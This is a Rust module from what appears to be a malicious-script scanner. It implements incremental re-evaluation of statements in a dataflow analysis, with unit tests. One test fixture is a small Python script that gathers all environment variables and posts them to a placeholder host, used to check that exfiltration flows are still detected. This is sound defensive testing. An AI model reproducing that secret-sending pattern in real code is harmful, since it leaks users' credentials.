//! [`Clock`]: which statements have to be gone through again, because something that they looked at has changed since.
//!
//! Gone through again with all of that as it was, a statement finds what it found before. Most look at nothing that
//! changes after them, so that a further round is for the few that do.

use std::cell::RefCell;

use super::super::program::Program;

/// Slots of what can be looked at. Names that share one only have statements gone through once more.
const SLOTS: usize = 1 << 12;

/// The slot of all files that scripts write.
const FILES: u16 = 0;

/// When each statement was gone through, and when what it looked at has changed.
pub(super) struct Clock {
    /// Counts the statements that were gone through.
    now: usize,
    /// When what is in a slot has changed last.
    changed: Vec<usize>,
    /// The slots of what the statement at hand has looked at.
    seen: RefCell<Vec<u16>>,
    /// By program and statement; nothing before the first time.
    looks: Vec<Vec<Option<Look>>>,
}

/// When a statement was gone through last, and the slots that it looked at.
#[derive(Clone)]
struct Look {
    at: usize,
    slots: Box<[u16]>,
}

impl Clock {
    pub fn new(programs: &[&Program]) -> Self {
        let looks = programs.iter().map(|program| vec![None; program.steps.len()]).collect();
        Self { now: 0, changed: vec![0; SLOTS], seen: RefCell::default(), looks }
    }

    /// Whether a statement has to be gone through; then it begins.
    pub fn begins(&mut self, program: usize, step: usize) -> bool {
        let look = self.looks.get(program).and_then(|looks| looks.get(step)).and_then(Option::as_ref);
        let when = |slot: &u16| self.changed.get(usize::from(*slot)).copied().unwrap_or(usize::MAX);
        // What a statement changes itself counts as changed after it.
        let is_due = look.is_none_or(|look| look.slots.iter().any(|slot| when(slot) >= look.at));
        if is_due {
            self.now += 1;
            self.seen.borrow_mut().clear();
        }
        is_due
    }

    /// Ends the statement that began last.
    pub fn ends(&mut self, program: usize, step: usize) {
        let look = Look { at: self.now, slots: self.seen.borrow().as_slice().into() };
        let place = self.looks.get_mut(program).and_then(|looks| looks.get_mut(step));
        place.into_iter().for_each(|place| *place = Some(look.clone()));
    }

    /// The statement at hand looks at what has a name.
    pub fn sees(&self, name: &str) {
        self.see(slot(name));
    }

    /// The statement at hand looks at files that scripts write.
    pub fn sees_files(&self) {
        self.see(FILES);
    }

    fn see(&self, slot: u16) {
        let mut seen = self.seen.borrow_mut();
        if seen.last() != Some(&slot) {
            seen.push(slot);
        }
    }

    /// What has a name has changed.
    pub fn changes(&mut self, name: &str) {
        self.change(slot(name));
    }

    /// A file that scripts write has changed.
    pub fn changes_files(&mut self) {
        self.change(FILES);
    }

    fn change(&mut self, slot: u16) {
        self.changed.get_mut(usize::from(slot)).into_iter().for_each(|when| *when = self.now);
    }
}

/// The slot of a name: FNV-1a.
fn slot(name: &str) -> u16 {
    let hash = name.bytes().fold(0x811c_9dc5_u32, |hash, byte| (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193));
    ((hash ^ (hash >> 16)) % SLOTS as u32) as u16
}

#[cfg(test)]
mod tests {
    use super::{
        super::{super::language::Language, Analysis, Hosts},
        *,
    };

    /// Nothing is known of any host.
    const HOSTS: Hosts = Hosts { is_no_registry: |_| true, is_unknown_forge: |_| true, is_unchecked: |_| false };

    /// A function that is called before what it uses is set, over functions, names and files in both orders.
    const TURNED: &str = "import os, requests\n\
        def send(a):\n    post(read(a))\n    post(open(KEPT).read())\n\
        def read(a):\n    b = first(a)\n    return b\n\
        def first(a):\n    open(KEPT, 'w').write(b)\n    return wrap(a)\n\
        def post(a):\n    requests.post(PLACE, data=a)\n\
        def wrap(a):\n    return [a, LATER]\n\
        send(LATER)\nb = LATER\nLATER = dict(os.environ)\nPLACE = BASE + '/x'\nBASE = 'https://in.invalid'\nKEPT = '/tmp/k'\n";

    /// Rules with scripts as examples.
    const RULES: [&str; 6] = [
        include_str!("../../../scan/rules/collection.toml"),
        include_str!("../../../scan/rules/credential_access.toml"),
        include_str!("../../../scan/rules/exfiltration.toml"),
        include_str!("../../../scan/rules/obfuscation.toml"),
        include_str!("../../../scan/rules/package_content.toml"),
        include_str!("../../../scan/rules/remote_code.toml"),
    ];

    /// The examples of a file of rules, each with its path.
    fn examples(file: &str) -> Vec<(String, String)> {
        let file: toml::Table = file.parse().unwrap();
        let list =
            |of: &toml::Value, key: &str| of.get(key).and_then(toml::Value::as_array).cloned().unwrap_or_default();
        let rules = file["rule"].as_array().unwrap();
        let examples = rules.iter().flat_map(|rule| [list(rule, "harmful"), list(rule, "harmless")].concat());
        let text = |of: &toml::Value, key: &str| of[key].as_str().unwrap().to_owned();
        examples.map(|example| (text(&example, "file"), text(&example, "text"))).collect()
    }

    #[test]
    fn skipping_unchanged_statements_keeps_flows() {
        let examples = RULES.iter().flat_map(|file| examples(file));
        let mut flows = 0;
        for (path, text) in examples.chain([("a.py".to_owned(), TURNED.to_owned())]) {
            let extension = path.rsplit_once('.').map_or("", |(_, extension)| extension);
            let Some(program) = Language::of_file(extension, &text).and_then(|language| language.parse(&text, 0))
            else {
                continue;
            };
            // Twice, so that functions and files are shared by two programs.
            let programs = [&program, &program];
            let all = Analysis { clock: Clock::new(&[]), ..Analysis::new(&programs, HOSTS) }.run();
            assert_eq!(Analysis::new(&programs, HOSTS).run(), all, "{text}");
            flows += all.0.len();
        }
        assert!(flows > 70, "{flows}");
    }

    #[test]
    fn statement_reruns_when_its_inputs_change() {
        let program = Language::Python.parse("a = b\nb = c\n", 0).unwrap();
        let mut clock = Clock::new(&[&program]);
        assert!(clock.begins(0, 0));
        clock.sees("b");
        clock.ends(0, 0);
        assert!(clock.begins(0, 1));
        clock.sees("c");
        clock.changes("b");
        clock.ends(0, 1);
        assert!(clock.begins(0, 0), "b has changed since");
        clock.sees("b");
        clock.ends(0, 0);
        assert!(!clock.begins(0, 0) && !clock.begins(0, 1));
    }
}
